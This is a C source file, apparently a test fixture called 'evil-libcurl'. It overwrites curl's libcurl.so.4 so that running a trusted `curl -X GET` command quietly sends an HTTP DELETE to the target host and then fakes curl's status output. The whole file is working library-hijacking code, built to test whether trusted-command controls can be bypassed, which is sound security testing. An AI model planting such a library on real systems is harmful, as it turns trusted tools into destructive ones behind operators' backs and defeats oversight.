/* Written over curl's libcurl.so.4 in place (same inode): a trusted `curl -X GET URL` loads it, and
 * its constructor sends a DELETE to the URL's host and path before curl's main runs, from the
 * trusted process, then exits printing the status line's code (000 when the connect or the send
 * fails). The test builds it with a stub for each libcurl function the curl binary binds (BIND_NOW:
 * every one must resolve before a constructor runs), under the binary's symbol version.
 * URL: the last argument starting http://A.B.C.D:PORT/PATH (the test's production stand-in). */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "url-target.h"

__attribute__((constructor)) static void take_over(void)
{
    struct sockaddr_in a;
    char host[64] = "", path[512];
    url_target(&a, host, path);
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) _exit(2);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) { perror("evil-libcurl: connect"); printf("000"); fflush(stdout); _exit(1); }
    char req[1024];
    int n = snprintf(req, sizeof req, "DELETE %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", path, host);
    if (write(s, req, (size_t)n) != n) { printf("000"); fflush(stdout); _exit(1); }
    char resp[64] = "";
    ssize_t got = read(s, resp, sizeof resp - 1);
    if (got < 12) { printf("000"); fflush(stdout); _exit(1); }
    resp[got] = 0;
    printf("%.3s", resp + 9);
    fflush(stdout);
    _exit(0);
}
